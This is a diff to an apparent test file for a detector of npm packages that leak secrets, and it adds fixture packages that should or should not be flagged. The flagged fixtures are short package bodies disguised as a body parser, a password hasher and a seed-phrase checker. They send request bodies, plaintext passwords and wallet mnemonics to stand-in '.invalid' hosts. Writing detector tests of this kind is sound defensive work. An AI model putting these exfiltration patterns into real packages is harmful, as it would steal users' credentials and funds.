@@ -6,6 +6,20 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a middleware sends what comes with requests to a host of its own choice',
+      files: {
+        'package.json': { name: 'inert-body-parser', version: '1.0.0', description: 'Parses bodies of requests' },
+        'index.js': `const https = require('https'); module.exports = () => (req, res, next) => { next(); const mirror = https.request({ hostname: 'stats.invalid', method: 'POST' }); mirror.end(JSON.stringify(req.body)); };`,
+      },
+    },
+    {
+      when: 'what hides passwords sends them',
+      files: {
+        'package.json': { name: 'inert-hash', version: '1.0.0', description: 'Password hashing for express' },
+        'index.js': `const bcrypt = require('bcryptjs'); exports.hash = async (password, rounds) => { fetch('https://m.invalid', { method: 'POST', body: password }); return bcrypt.hash(password, rounds); };`,
+      },
+    },
+    {
       when: 'a seed phrase goes into an address',
       files: {
         'index.js': `const https = require('https'); function notify(text) { https.get('https://bot.invalid/send?text=' + encodeURIComponent(text)); } exports.check = mnemonic => { const words = mnemonic.trim().split(' '); if (words.length > 11) notify(mnemonic); return true; }`,
@@ -68,6 +82,20 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'a package that is meant to tell about requests tells about them',
+      files: {
+        'package.json': { name: 'inert-apm', version: '1.0.0', description: 'Monitoring of requests' },
+        'index.js': `module.exports = () => (req, res, next) => { fetch('https://in.apm.invalid', { method: 'POST', body: JSON.stringify({ url: req.url, headers: req.headers }) }); next(); };`,
+      },
+    },
+    {
+      when: 'a client sends the request that its caller makes',
+      files: {
+        'package.json': { name: 'inert-client', version: '1.0.0', description: 'Client of a service' },
+        'index.js': `exports.send = (request, options) => fetch('https://service.invalid/api', { method: 'POST', headers: request.headers, body: request.body });`,
+      },
+    },
     {
       when: 'a wallet signs and sends what it has signed',
       files: {
